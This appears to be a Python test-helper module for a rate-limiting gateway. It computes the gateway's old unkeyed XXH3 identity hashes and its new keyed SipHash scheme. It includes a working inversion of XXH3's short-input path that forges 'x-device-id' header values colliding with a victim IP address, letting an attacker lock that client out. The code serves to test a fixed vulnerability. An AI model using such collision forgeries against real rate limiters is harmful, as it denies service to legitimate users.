"""Identity hashes as Diana computes them, old and new, for the tests that aim at them.

The OLD scheme (before the keyed hash, DESIGN §6): identities were XXH3-64 with fixed public
seeds, `xxh3(ip, IP_SEED)` for an address and `xxh3(value, xxh3(header, HEADER_SEED))` for a
header value. For inputs of 4 to 8 bytes XXH3 is a bijection of one 64-bit word built from
the input, so it can be inverted: `forged_device_id(ip)` returns the `x-device-id` value
that the old scheme hashed exactly like `ip`'s address (same slots, same fingerprint, same
global key), which let three requests lock that address's client out of a 3/minute rule.

The NEW scheme: SipHash-1-3 keyed with HMAC-SHA256(identity_key, "diana identity hash v1")
(first 16 bytes), the actor's kind first in the input (1 for an address; 2, the header
name's length as 8 bytes little endian and the name, for a header). `keyed_ip_identity` and
`keyed_header_identity` compute it for a document with `identity_key`, so that tests can
still aim at slots (`candidates`, `SlotAddress::of`). Without `identity_key` the local key
is a per-process random one that nobody outside the gateway can know.

The inversion of XXH3's 4-8 byte path (`XXH3_len_4to8_64b`, xxhash.h):
    seed' = seed ^ (bswap32(seed_lo) << 32)
    x     = (read32(in) << 32 | read32(in + len - 4)) ^ ((secret[8:16] ^ secret[16:24]) - seed')
    h     = rrmxmx(x, len):  x ^= rotl(x,49) ^ rotl(x,24); x *= MX2; x ^= (x>>35) + len;
                             x *= MX2; x ^= x >> 28
Every step is invertible: the xorshifts by unwinding, the products by MX2's inverse mod
2^64, and 1 + R^49 + R^24 over GF(2)[R]/(R^64 - 1) by the product of (1 + R^(49·2^i) +
R^(24·2^i)), i < 6 (its nilpotent part vanishes at the 64th power). For one length the
preimage is unique (shorter lengths overlap and must agree): an address has a header-safe
8-byte forgery about once in 2,500 addresses, so `forgeable_ip()` finds a victim address
that has one (127.0.1.253: `3h:}/vE]`; the report's 203.0.7.112: `g-}OD.%{`).
"""

from __future__ import annotations

import hashlib
import hmac
import struct

import xxhash

MASK = (1 << 64) - 1

# crates/diana-core/src/actor.rs before the keyed hash.
OLD_IP_SEED = 0x6469_616E_615F_6970  # "diana_ip"
OLD_HEADER_SEED = 0x6469_616E_615F_6864  # "diana_hd"

_PRIME_MX2 = 0x9FB21C651E98DF25
_MX2_INVERSE = pow(_PRIME_MX2, -1, 1 << 64)
# XXH3_kSecret bytes 8..16 and 16..24, little endian.
_SECRET_8 = 0x1CAD21F72C81017C
_SECRET_16 = 0xDB979083E96DD4DE


def _rotl(x: int, r: int) -> int:
    r %= 64
    return ((x << r) | (x >> (64 - r))) & MASK if r else x


def _bitflip(seed: int) -> int:
    low = seed & 0xFFFF_FFFF
    swapped = int.from_bytes(low.to_bytes(4, "little"), "big")
    seed = (seed ^ (swapped << 32)) & MASK
    return ((_SECRET_8 ^ _SECRET_16) - seed) & MASK


def xxh3_4to8(data: bytes, seed: int) -> int:
    """XXH3-64 of 4 to 8 bytes, written out (checked against the xxhash module)."""
    n = len(data)
    if not 4 <= n <= 8:
        raise ValueError("4 to 8 bytes")
    first = int.from_bytes(data[:4], "little")
    last = int.from_bytes(data[n - 4 :], "little")
    h = ((last + (first << 32)) ^ _bitflip(seed)) & MASK
    h ^= _rotl(h, 49) ^ _rotl(h, 24)
    h = h * _PRIME_MX2 & MASK
    h ^= (h >> 35) + n
    h = h * _PRIME_MX2 & MASK
    return h ^ (h >> 28)


def invert_xxh3_4to8(h: int, length: int, seed: int) -> bytes | None:
    """The `length`-byte input (4 to 8) whose XXH3-64 under `seed` is `h`, if there is one."""
    x = h ^ (h >> 28) ^ (h >> 56)
    x = x * _MX2_INVERSE & MASK
    x ^= (x >> 35) + length
    x = x * _MX2_INVERSE & MASK
    for i in range(6):
        x ^= _rotl(x, 49 << i) ^ _rotl(x, 24 << i)
    x ^= _bitflip(seed)
    first = (x >> 32).to_bytes(4, "little")
    last = (x & 0xFFFF_FFFF).to_bytes(4, "little")
    value = bytearray(length)
    value[:4] = first
    for i, byte in enumerate(last):
        at = length - 4 + i
        if at < 4 and value[at] != byte:
            return None
        value[at] = byte
    return bytes(value)


def old_ip_identity(ip: str) -> int:
    """The old identity hash of a client address (actor `ip`, fallback `ip`)."""
    return xxhash.xxh3_64_intdigest(ip.encode(), seed=OLD_IP_SEED)


def old_header_identity(value: bytes | str, header: str = "x-device-id") -> int:
    """The old identity hash of a header value (the header actor's seed from its name)."""
    if isinstance(value, str):
        value = value.encode()
    seed = xxhash.xxh3_64_intdigest(header.encode(), seed=OLD_HEADER_SEED)
    return xxhash.xxh3_64_intdigest(value.strip(b" \t\r\n\x0c"), seed=seed)


def header_safe(value: bytes) -> bool:
    """Printable ASCII, no space at either end (trimmed values would differ)."""
    return bool(value) and all(0x20 <= b < 0x7F for b in value) and value[0] != 0x20 and value[-1] != 0x20


def forgeries(ip: str, header: str = "x-device-id") -> list[bytes]:
    """Every 4- to 8-byte value of `header` the old scheme hashed exactly like `ip`."""
    target = old_ip_identity(ip)
    seed = xxhash.xxh3_64_intdigest(header.encode(), seed=OLD_HEADER_SEED)
    found = []
    for length in range(8, 3, -1):
        value = invert_xxh3_4to8(target, length, seed)
        if value is not None:
            found.append(value)
    return found


def forged_device_id(ip: str) -> bytes:
    """A header-safe `x-device-id` value that the OLD scheme hashed exactly like `ip`'s
    address: the same slots, fingerprint and global key. Raises ValueError when `ip` has
    none (most addresses: see `forgeable_ip`)."""
    for value in forgeries(ip):
        if header_safe(value):
            assert old_header_identity(value) == old_ip_identity(ip)
            return value
    raise ValueError(
        f"{ip} has no header-safe 4-8 byte forgery under the old hash (about one address in 2,500 "
        f"has one); pick the victim with forgeable_ip()"
    )


def forgeable_ip(prefix: str = "127.0.", exclude: tuple[str, ...] = ("127.0.0.1",)) -> str:
    """The first address `<prefix>c.d` (c, d counted up) with a header-safe forgery."""
    for c in range(256):
        for d in range(1, 255):
            ip = f"{prefix}{c}.{d}"
            if ip in exclude:
                continue
            if any(header_safe(v) for v in forgeries(ip)):
                return ip
    raise ValueError(f"no forgeable address under {prefix}")


# ---------------------------------------------------------------------------------------
# The keyed scheme (crates/diana-core/src/hash.rs).


def identity_key(secret: str) -> bytes:
    """The 128-bit key derived from a document's `identity_key` (surrounding spaces are not
    part of the secret)."""
    return hmac.new(secret.strip().encode(), b"diana identity hash v1", hashlib.sha256).digest()[:16]


def siphash13(key: bytes, data: bytes) -> int:
    """SipHash-1-3 (one compression round, three finalisation rounds), 64-bit output."""
    k0, k1 = struct.unpack("<QQ", key)
    v0 = k0 ^ 0x736F6D6570736575
    v1 = k1 ^ 0x646F72616E646F6D
    v2 = k0 ^ 0x6C7967656E657261
    v3 = k1 ^ 0x7465646279746573

    def rounds(n: int) -> None:
        nonlocal v0, v1, v2, v3
        for _ in range(n):
            v0 = (v0 + v1) & MASK
            v1 = _rotl(v1, 13) ^ v0
            v0 = _rotl(v0, 32)
            v2 = (v2 + v3) & MASK
            v3 = _rotl(v3, 16) ^ v2
            v0 = (v0 + v3) & MASK
            v3 = _rotl(v3, 21) ^ v0
            v2 = (v2 + v1) & MASK
            v1 = _rotl(v1, 17) ^ v2
            v2 = _rotl(v2, 32)

    length = len(data)
    tail = length - length % 8
    for i in range(0, tail, 8):
        (m,) = struct.unpack_from("<Q", data, i)
        v3 ^= m
        rounds(1)
        v0 ^= m
    last = (length & 0xFF) << 56
    for i, byte in enumerate(data[tail:]):
        last |= byte << (8 * i)
    v3 ^= last
    rounds(1)
    v0 ^= last
    v2 ^= 0xFF
    rounds(3)
    return v0 ^ v1 ^ v2 ^ v3


def keyed_ip_identity(secret: str, ip: str) -> int:
    """The identity hash of a client address under a document's `identity_key`."""
    return siphash13(identity_key(secret), b"\x01" + ip.encode())


def keyed_header_identity(secret: str, header: str, value: bytes | str) -> int:
    """The identity hash of a header value under a document's `identity_key`."""
    if isinstance(value, str):
        value = value.encode()
    name = header.lower().encode()
    return siphash13(identity_key(secret), b"\x02" + struct.pack("<Q", len(name)) + name + value.strip(b" \t\r\n\x0c"))


def candidates(h: int, slots: int) -> tuple[int, int]:
    """`SlotAddress::of`: an identity hash's two candidate slots."""
    mixed = _rotl(h, 29) * 0x9E3779B97F4A7C15 & MASK
    return h % slots, (mixed >> 17) % slots


def fingerprint(h: int) -> int:
    """`SlotAddress::of`: the fingerprint stored in the record and sent as the global key."""
    return h | 1


# ---------------------------------------------------------------------------------------
# Self-check, at import: a broken formula fails loudly rather than making a test vacuous.


def _self_check() -> None:
    import random

    rng = random.Random(7)
    for _ in range(200):
        n = rng.randint(4, 8)
        data = bytes(rng.getrandbits(8) for _ in range(n))
        seed = rng.getrandbits(64)
        h = xxhash.xxh3_64_intdigest(data, seed=seed)
        assert xxh3_4to8(data, seed) == h, (data, seed)
        assert invert_xxh3_4to8(h, n, seed) == data, (data, seed)
    # The report's attack, against the xxhash module.
    assert forged_device_id("203.0.7.112") == b"g-}OD.%{"
    assert old_header_identity(b"g-}OD.%{") == old_ip_identity("203.0.7.112")
    # Vectors computed by crates/diana-core (hash.rs, `known_vectors`).
    secret = "diana-identity-key-test-vector-0123456789"
    assert keyed_header_identity(secret, "x-device-id", "phone-1") == 0x1A4AF47AA854C323
    assert keyed_ip_identity(secret, "127.0.0.1") == 0x5722945151CEBEC0


_self_check()

if __name__ == "__main__":
    ip = forgeable_ip()
    print(f"victim {ip}: x-device-id {forged_device_id(ip)!r}")
    print(f"203.0.7.112: x-device-id {forged_device_id('203.0.7.112')!r}")
